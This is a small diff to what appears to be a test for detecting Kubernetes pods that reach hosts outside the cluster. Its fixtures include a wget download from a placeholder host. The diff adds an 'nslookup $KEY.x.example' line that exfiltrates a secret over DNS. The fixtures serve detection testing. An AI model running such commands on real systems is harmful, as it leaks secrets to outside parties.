@@ -32,6 +32,8 @@ def variables(**values):
         {"command": ["sh", "-c", "set -e\nwget x.example/a"]},
         {"args": ["ping", "8.8.8.8"]},
         {"args": ["--endpoint=https://sts.amazonaws.com"]},
+        {"command": ["sh", "-c", "pip install boto3"]},
+        {"command": ["sh", "-c", "nslookup $KEY.x.example"]},
     ],
 )
 def test_a_pod_that_is_told_of_a_host_outside_is_found(more):
